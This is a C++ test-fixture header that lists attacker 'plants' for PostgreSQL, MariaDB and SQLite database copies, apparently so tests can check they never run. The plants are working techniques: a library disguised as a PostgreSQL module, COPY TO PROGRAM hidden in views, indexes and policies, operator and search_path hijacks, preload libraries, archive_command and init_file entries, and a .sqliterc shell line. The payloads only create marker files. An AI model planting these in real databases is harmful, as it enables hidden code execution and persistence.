// SPDX-FileCopyrightText: 2026 The lastgood authors
// SPDX-License-Identifier: Apache-2.0
// What an attacker can plant in a copy of a database so that it runs when somebody starts it: the list that tests (and
// a drill) hold against scratch servers. Each plant, if it runs, makes a file `mark/NAME` (absolute) or `canary_NAME`
// where it runs. Scripts for /bin/sh, run by the engine's user in a folder; $M is the folder of marks.
#pragma once

#include <string>
#include <vector>

namespace lastgood::engines::testing {

/// A library whose loading is enough: its constructor makes mark/library. PostgreSQL 15 takes it for one of its own.
/// Made with the system's compiler.
inline constexpr const char* k_evil_library = R"sh(
cat >evil.c <<C
#include <fcntl.h>
__attribute__((constructor)) static void run(void) { open("$M/library", O_CREAT | O_WRONLY, 0644); open("canary_library", O_CREAT | O_WRONLY, 0644); }
typedef struct { int len, version, args, keys, name, by_value; char abi[32]; } magic;
const magic* Pg_magic_func(void) { static const magic m = {sizeof(magic), 1500, 100, 32, 64, 1, "PostgreSQL"}; return &m; }
const int* pg_finfo_x(void) { static const int v = 1; return &v; }
unsigned long x(void) { return 1; }
C
cc -shared -fPIC -o evil.so evil.c
)sh";

/// Statements for a running PostgreSQL; `q SQL...` asks the planted database as its superuser.
inline constexpr const char* k_postgresql_plants = R"sh(
q "create table t(a int)" "insert into t values(1),(2),(3)"
q "create function run_definer() returns int security definer language plpgsql as \$f\$ begin execute 'copy (select 1) to program ''touch $M/definer canary_definer; cat >/dev/null'''; return 1; end \$f\$"
q "create view v_definer as select run_definer() from t limit 1"
q "create extension plpython3u" "create function run_python() returns int language plpython3u as \$f\$
import os
open('$M/python','w'); os.system('touch canary_python')
return 1 \$f\$" "create view v_python as select run_python() from t limit 1"
q "create function run_c() returns int as '$PWD/evil.so', 'x' language c" "create view v_c as select run_c() from t limit 1"
q "create extension file_fdw" "create server f foreign data wrapper file_fdw" \
  "create foreign table v_foreign(a text) server f options (program 'touch $M/foreign canary_foreign; echo 1')"
q "create function run_inner() returns int security definer language plpgsql as \$f\$ begin execute 'copy (select 1) to program ''touch $M/immutable canary_immutable; cat >/dev/null'''; return 1; end \$f\$" \
  "create function run_immutable(a int) returns int immutable language plpgsql as \$f\$ begin perform run_inner(); return a; end \$f\$" \
  "create view v_immutable as select * from t where run_immutable(1) = 1" "create index plant on t (run_immutable(a))" \
  "create domain planted_domain as int check (run_immutable(value) > 0)" "create view v_domain as select a::planted_domain from t" \
  "create table generated(a int, b int generated always as (run_immutable(a)) stored)" "insert into generated values (1)" \
  "alter table t enable row level security" "create policy plant on t using (run_definer() = 1)" \
  "create rule plant as on insert to t do also select run_definer()"
q "create function pg_catalog.run_operator(name, text) returns text language plpython3u as \$f\$
open('canary_operator', 'w')
try: open('$M/operator', 'w')
except OSError: pass
return args[0] + args[1] \$f\$" "create operator pg_catalog.|| (leftarg = name, rightarg = text, function = pg_catalog.run_operator)"
q "create schema shadow" "create function shadow.lower(text) returns text security definer language plpython3u as \$f\$
open('canary_shadow', 'w')
try: open('$M/shadow', 'w')
except OSError: pass
return args[0] \$f\$" "alter role all set search_path = shadow, pg_catalog, public"
q "create function run_trigger() returns event_trigger language plpgsql as \$f\$ begin execute 'copy (select 1) to program ''touch $M/event_trigger canary_event_trigger; cat >/dev/null'''; end \$f\$" \
  "create event trigger plant on ddl_command_start execute function run_trigger()" "alter event trigger plant enable always"
q "alter database planted set session_preload_libraries='$PWD/evil.so'"
q "alter role all set local_preload_libraries='$PWD/evil.so'"
)sh";

/// Files in a cluster's folder $D.
inline constexpr const char* k_postgresql_file_plants = R"sh(
cat >>$D/postgresql.auto.conf <<C
archive_mode = on
archive_command = 'touch $M/archive_command canary_archive_command'
restore_command = 'touch $M/restore_command canary_restore_command; false'
recovery_end_command = 'touch $M/recovery_end_command canary_recovery_end_command'
archive_cleanup_command = 'touch $M/archive_cleanup_command'
logging_collector = on
log_directory = '$M'
log_filename = 'log_file'
external_pid_file = '$M/external_pid_file'
include '$PWD/further.conf'
C
echo "shared_preload_libraries = '$PWD/evil.so'" >further.conf
echo "include_if_exists '$PWD/further.conf'" >>$D/postgresql.conf
mkdir -p elsewhere && ln -s $PWD/elsewhere $D/pg_tblspc/99999
cp evil.so $D/base/evil.so
touch $D/recovery.signal
)sh";
inline const std::vector<std::string> k_postgresql_views = {"v_definer", "v_python",    "v_c",
                                                            "v_foreign", "v_immutable", "v_domain"};

/// Statements for a running MariaDB; `q SQL` asks it as root.
inline constexpr const char* k_mariadb_plants = R"sh(
q "create database planted; use planted; create table t(a int); insert into t values(1),(2);
   create view v_load as select load_file('$M/secret') from t;
   create event plant on schedule every 1 second do select 1 into outfile '$M/event';
   create trigger tr before insert on t for each row set @x = load_file('$M/secret');
   delimiter //
   create function run_outfile() returns int deterministic begin select 1 into outfile '$M/outfile'; return 1; end//
   create table written(a int)//
   create function run_write() returns int deterministic begin insert into written values (1); return 1; end//
   delimiter ;
   create view v_outfile as select run_outfile() from t limit 1;
   create table away(a int) engine=innodb data directory='$M'; insert into away values(1);
   insert into mysql.func values('run_library', 2, 'evil.so', 'function');
   insert into mysql.plugin values('evil', 'evil.so');"
)sh";
/// Files in a data directory $D.
inline constexpr const char* k_mariadb_file_plants = R"sh(
printf "[mysqld]\ninit_file=$M/init.sql\ngeneral_log=1\ngeneral_log_file=$M/general\nlog_error=$M/error_log\nplugin_dir=$PWD\nplugin_load_add=evil.so\nevent_scheduler=ON\n" >$D/my.cnf
cp $D/my.cnf $D/.my.cnf
cp evil.so $D/evil.so; cp evil.so $D/planted/evil.so
printf "18\nlog.000001\n4\n10.9.9.9\nroot\nx\n3306\n60\n0\n" >$D/master.info; printf "5\n./relay.000001\n4\nlog.000001\n4\n0\n" >$D/relay-log.info
)sh";
inline const std::vector<std::string> k_mariadb_views = {"v_load", "v_outfile"};

/// A database d/w.db, and what happens when people look at it with SQLite's own program.
inline constexpr const char* k_sqlite_plants = R"sh(
sqlite3 d/w.db "create table t(a); insert into t values(1),(2);
  create view v_load as select load_extension('$PWD/evil.so') from t;
  create view v_read as select readfile('$M/secret') from t;
  create view v_write as select writefile('$M/write', 'x') from t;
  create view v_edit as select edit('x', 'touch $M/edit') from t;
  create view v_tokenizer as select fts3_tokenizer('simple', x'0102030405060708') from t;
  create trigger tr after insert on t begin select load_extension('$PWD/evil.so'); end;"
echo ".shell touch $M/rc" >d/.sqliterc
sqlite3 -init d/.sqliterc d/w.db "select * from v_load" >/dev/null 2>&1 || true
)sh";
inline const std::vector<std::string> k_sqlite_views = {"v_load", "v_read", "v_write", "v_edit", "v_tokenizer"};

}  // namespace lastgood::engines::testing
